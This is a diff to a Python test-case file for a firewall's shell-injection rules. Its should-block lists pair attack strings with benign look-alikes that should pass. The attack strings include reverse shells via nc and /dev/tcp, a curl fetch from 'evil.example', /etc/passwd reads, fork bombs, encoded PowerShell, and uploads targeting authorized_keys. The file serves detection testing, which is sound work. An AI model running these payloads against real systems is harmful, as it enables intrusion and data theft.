@@ -1,31 +1,152 @@
-"""Should-block / should-pass payloads of the ``rules/managed/attacks_shell.py`` classes (see ``cases.py``)."""
+"""Should-block / should-pass payloads of the ``rules/managed/attacks_shell.py`` classes (see ``cases.py``).
+
+Pass payloads are what real users type near the attack grammars: English words that are also
+command names ("cat food", "time to go", "find a store"), search operators ("cat toys -plush"),
+language names as values ("Ruby", "php"), US state codes ("NC"), markdown that quotes a command in
+backticks, jQuery and JavaScript template strings, Next.js route paths, JSONPath, prose with
+semicolons and dashes.
+"""
 
 from __future__ import annotations
 
 from tests.rules.case import Case
 
+# Innocent look-alikes of a *whole value* command line (each must pass every placement).
+COMMAND_WORDS_IN_PROSE = (
+    "cat food",
+    "bash guitar pedal",
+    "tail of the dog",
+    "time to go",
+    "find a store",
+    "more info",
+    "sort by price",
+    "ls in the office",
+    "cat toys -plush",
+    "größe 42 schuhe -used",
+    "last -minute deals",
+    "head lice treatment",
+    "cut resistant gloves",
+    "sort -created",
+    "python tutorial",
+    "Ruby",
+    "NC",
+    "Dash",
+    "php",
+    "perl",
+    "node",
+    "nice ruby ring",
+    "nice cat photos",
+    "time who knows",
+    "ping me at john.doe@example.com",
+    "ping john.doe about the meeting",
+    "curl up with a book",
+    "curl cream for hair",
+    "wget alternative for windows",
+    "echo chamber",
+    "top 10 movies",
+    "kill time before the show",
+    "touch screen laptop",
+    "find my iphone",
+    "set of 4 chairs",
+    "export to csv",
+    "source of truth",
+    "host a party",
+    "file a claim",
+    "zip code 90210",
+    "free shipping",
+    "date night ideas",
+    "w hotel",
+    "env vars in next.js",
+    "chmod explained",
+    "AA-battery pack",
+    "chef-inspired recipes",
+    "salt-free diet",
+    "ansible vs puppet",
+    "apt-get install nginx",
+    "ssh tunnel tutorial",
+    "dig deep",
+    "bin/rails server",
+    "http://example.com/bin/download",
+)
+
 CASES: tuple[Case, ...] = (
     Case(
         "UNIXShellCommands",
         ("; cat /etc/passwd", "| id", "&& whoami", "$(curl http://evil.example/x.sh)", "; nc -e /bin/sh 10.0.0.1 4444",
-         "; salt-call cmd.run id", "x; xzcat /var/log/auth.log.xz", "x=cd /;cd etc;head hosts", "tr a b <<< 'abc'"),
+         "; salt-call cmd.run id", "x; xzcat /var/log/auth.log.xz", "x=cd /;cd etc;head hosts", "tr a b <<< 'abc'",
+         # Any command taking a long option after ";", "&&" or "$(" (quoted or not).
+         ";rmt --version", ";'perf' --version", "x && ansible-inventory --list",
+         # A variable as the command, output piped into a shell, a subshell, /dev/tcp through a variable.
+         "|$u wget test", "a=nc&&$a -nlvp 555", "whxami|sh ``", "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
+         "x; ls 2>&1", ";chmod +x evil.php", "; chmod 4755 /tmp/x",
+         # Here-strings after a separator, alias/unalias, sqlite and vi shell escapes.
+         ";irb<<<1+2", ";gcc10.1<<<'void main(){}'", "alias ls-al='ls -al'", "alias -p jzfrx=id", "; unalias -a",
+         ";\\n.shell nc 10.0.0.1 6666 -e sh", ";vim -c:\\!pwd", "uname$u -a", "{n$u\\c$u,-nlvp,777}",
+         # Admin CLIs after a separator; a backslash in front of a command word.
+         "&aptitude", '{";aptitude":"foo"}'),
         ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
-         "python 3.10 release notes", "cd music; then play"),
+         "python 3.10 release notes", "cd music; then play", "Thanks; Bob --sent from my phone",
+         "Options; see --help for more", "I like apples; pears -- not so much", "| Use --force | yes |",
+         "| Option | Description | --force | overwrite |", "Cost; $5 each", "$a = 1; $b = 2;",
+         "| $price | $tax |", "Love you<<<3", "<<<<<<< HEAD", "alias: Bob", "My alias is Bobby",
+         "aka Bob; alias = Robert", "a .shell css class", "Use `git pull --rebase` then `npm run build`.",
+         "Run `ls -la` to list files, then `cat README.md`.", "wow!! \\!important", "US$-5 off"),
     ),
     Case(
         "UNIXShellCommandsUnquoted",
-        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd"),
-        ("who am I?", "the cat sat on the mat"),
+        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd", "ti''me curl coreruleset.org"),
+        ("who am I?", "the cat sat on the mat", "time's up, curl your hair"),
+    ),
+    Case(
+        "UNIXCommandLineValue",
+        (
+            # English-word commands decided by their arguments.
+            "cat /etc/passwd", "ls -la", "cat /path/file.gz", "find / -name passwd", "tail -f /var/log/syslog",
+            "cat /et*/*wd", "set -o history", "env --version", "cat x | grep root", "ls /tmp > /dev/null",
+            # Tools that are no words: an argument shape, or recon tools alone.
+            "curl coreruleset.org", "wget http://203.0.113.9/x.sh", "perf --version", "busybox -c 'echo hi'",
+            "/usr/bin/perl -e 'print readline' x.txt", "/usr/bin/python3 -m http.server", "/bin/ab",
+            "python -c 'import os'", "nc 10.0.0.1 4444", "whoami", "ifconfig", "visudo\n",
+            # Configuration-management and admin CLIs; command prefixes; bin/ paths.
+            "ansible all -m ping", "ansible-config dump", "ansible-vault decrypt secret", "chef-client -t 1.1.1.1",
+            "cscli alerts list", "'cscli' alerts list", "aa-disable php-fpm", "time bsdtar ", "nohup ifconfig",
+            "strace ifconfig", "bin/visudo", "bin/ansible", "time; cscli alerts list", ";rmt-tar", "\\ls",
+            "\\cat /etc/hosts",
+        ),
+        COMMAND_WORDS_IN_PROSE,
     ),
     Case(
         "UNIXShellExpansion",
-        ("cat${IFS}/etc/passwd", "/bi[n]/ba[s]h", "{cat,/etc/passwd}", "c$@at /e${x}tc/hosts"),
-        ("filter[name]=shoes", "price ${total}", "{a: 1, b: 2}"),
+        ("cat${IFS}/etc/passwd", "/bi[n]/ba[s]h", "{cat,/etc/passwd}", "c$@at /e${x}tc/hosts",
+         "cat /etc/pa[s]swd", "/etc/[!q]asswd", "/etc/[m-z]asswd", "cat /[e//]tc/[p//]asswd", "ls /a[b///]c",
+         "$(cmd)", '"$(cmd)"', "$(id -u)", "$((1+2))", "$[]", "$[2*2]", "ping$() 127.0.0.1", "ping`` 127.0.0.1",
+         "c$!at /et$!c/pas$!swd", "~+", "~-", "~-1", "!-1!-2", "() { :; }; /bin/id", ":(){ :|:& };:",
+         "f(){ f & f; };f", "$c1$c2$c3$c4", "{,/?s?/?i?/c?t,/e??/p??s??,}"),
+        ("filter[name]=shoes", "price ${total}", "{a: 1, b: 2}", "/pages/[id]/edit", "/app/[slug]/page.tsx",
+         "[link](/docs/[id]/x)", "items[0][name]", "$(document).ready(function(){ $('#a').hide(); });",
+         "var el = $(this);", "Hello ${user.name}, your order ${order.id} shipped", "$[0].name", "$['store']['book']",
+         "~5 minutes", "~/projects/app is my folder", "wow!!", "!important", "function () { return 1; }",
+         "setTimeout(function () { x(); }, 10)", "const f = () => { return a | b; }", "get mask() { return A | B; }",
+         "use ``code`` here"),
+    ),
+    Case(
+        "UNIXConfigFileUpload",
+        ('--b\r\nContent-Disposition: form-data; name="f"; filename=".htaccess"\r\n\r\nAddType x\r\n--b--\r\n',
+         '--b\r\nContent-Disposition: form-data; name="f"; filename="wp-config.php"\r\n\r\nx\r\n--b--\r\n',
+         '--b\r\nContent-Disposition: form-data; name="f"; filename="../.ssh/authorized_keys"\r\n\r\nx\r\n--b--\r\n'),
+        ('--b\r\nContent-Disposition: form-data; name="f"; filename="notes.md"\r\n\r\nx\r\n--b--\r\n',
+         '--b\r\nContent-Disposition: form-data; name="f"; filename="config.yml"\r\n\r\nx\r\n--b--\r\n',
+         "my settings.php file", "the .bashrc tip", "profile", "environment"),
     ),
     Case(
         "WindowsShellCommands",
         ("| type C:\\Windows\\win.ini", "& powershell -enc SQBFAFgA", "cmd.exe /c dir", "FOR /F %a IN (x) DO y",
-         "& FOR /L /L %~ IN (1,1,9) DO cmd", "if/i x==y calc"),
-        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x", "if a == b then c"),
+         "& FOR /L /L %~ IN (1,1,9) DO cmd", "if/i x==y calc", "for %variable in (set) do command",
+         "for /f \"usebackq\" %v in (`command`) do command", ";iwr http://example.com/path/file.ps1",
+         ";iwmi -class Win32_process -name Create", "; regedit /E c:\\ads\\file.txt HKEY_CURRENT_USER\\Key",
+         "&bcdboot /r file.txt", "& icacls C:\\x /grant Everyone:F"),
+        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x", "if a == b then c",
+         "for each item in the cart do checkout", "for 50% in (cash) do pay", "copy/paste doesn't work",
+         "start /b", "Q&A /s", "rock & roll /r/music", "attrib sheet"),
     ),
 )
